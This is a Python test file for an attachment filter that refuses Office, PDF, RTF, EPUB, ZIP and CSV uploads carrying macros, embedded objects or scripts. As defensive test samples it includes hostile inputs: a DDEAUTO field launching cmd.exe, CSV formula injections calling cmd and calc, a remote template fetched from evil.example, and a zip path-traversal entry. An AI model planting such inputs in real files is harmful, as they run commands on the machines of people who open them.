"""Macros, programs and scripts inside attachments are refused; honest files pass."""

import zipfile
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from plugins.script_gate.attachments import faults_of
from tests.little_site import REPOSITORY


def packed(**members: str) -> bytes:
    data = BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), text)
    return data.getvalue()


def pdf(script: str = "", attached: bool = False) -> bytes:
    writer, data = PdfWriter(), BytesIO()
    writer.add_blank_page(100, 100)
    if script:
        facts = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(facts)
    if attached:
        writer.add_attachment("a.exe", b"MZ")
    writer.write(data)
    return data.getvalue()


TEMPLATE = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'
LINK = '<Relationship Type="http://x/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
REFUSED = [
    ("a.docx", packed(word__vbaProject_DOT_bin="x"), "宏"),
    ("a.xlsx", packed(xl__macrosheets__sheet1_DOT_xml="x"), "宏"),
    ("a.pptx", packed(ppt__activeX__activeX1_DOT_xml="x"), "宏"),
    ("a.docx", packed(word__embeddings__oleObject1_DOT_bin="x"), "嵌入"),
    ("a.odt", packed(Basic__Standard__Module1_DOT_xml="x"), "宏"),
    ("a.docx", packed(word___rels__settings_DOT_xml_DOT_rels=TEMPLATE), "取的模板"),
    ("a.docx", packed(word__document_DOT_xml='<w:instrText>DDEAUTO c:\\\\x\\\\cmd.exe "/k"</w:instrText>'), "DDE"),
    ("a.docx", b"PK\x03\x04 broken", "读不出来"),
    ("a.xls", "_VBA_PROJECT".encode("utf-16-le"), "宏"),
    ("a.rtf", b"{\\rtf1{\\object\\objdata 01}}", "嵌入"),
    ("a.zip", packed(a_DOT_exe="MZ"), "不能公开"),
    ("a.zip", packed(a_DOT_html="<script>"), "不能公开"),
    ("a.zip", packed(**{"..__..__a_DOT_txt": "x"}), "解压到别处"),
    ("a.zip", packed(a_DOT_svg="<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"), "onload"),
    ("a.epub", packed(a_DOT_xhtml="<script>x</script>"), "脚本"),
    ("a.pdf", pdf(script="app.alert(1)"), "脚本"),
    ("a.pdf", pdf(attached=True), "夹带"),
    ("a.pdf", b"%PDF-1.7 broken", "读不出来"),
    ("a.csv", b"=cmd|' /C calc'!A0,1\n", "公式"),
    ("a.csv", "甲,@SUM(1)\n".encode(), "公式"),
    ("a.csv", "甲,+cmd|1\n".encode(), "公式"),
]
HONEST = [
    ("a.docx", packed(word__document_DOT_xml="<w:t>DDE 是什么</w:t>", word___rels__x_DOT_rels=LINK)),
    ("a.csv", "地区,人数,增减\n甲区,1200,-3\n乙区,-,+1.5%\n".encode()),
    ("a.zip", packed(a_DOT_txt="x", b__c_DOT_csv="1,2\n")),
    ("a.pdf", pdf()),
    ("a.txt", b"=1+1"),
]


@pytest.mark.parametrize(("name", "data", "what"), REFUSED)
def test_what_runs_is_refused(name: str, data: bytes, what: str) -> None:
    assert any(what in fault.what and fault.remedy for fault in faults_of(name, data))


@pytest.mark.parametrize(("name", "data"), HONEST)
def test_honest_files_pass(name: str, data: bytes) -> None:
    assert list(faults_of(name, data)) == []


def test_the_attachments_that_are_shipped_pass() -> None:
    files = [path for path in REPOSITORY.glob("content/*/files/*") if path.is_file()]
    assert files and [fault for file in files for fault in faults_of(file.name, file.read_bytes())] == []


@settings(max_examples=200)
@given(st.sampled_from([case[:2] for case in (*REFUSED, *HONEST)]), st.integers(0, 400), st.binary(max_size=20))
def test_a_damaged_file_is_judged_too(case: tuple[str, bytes], at: int, noise: bytes) -> None:
    name, data = case
    list(faults_of(name, data[:at] + noise + data[at + len(noise) :]))
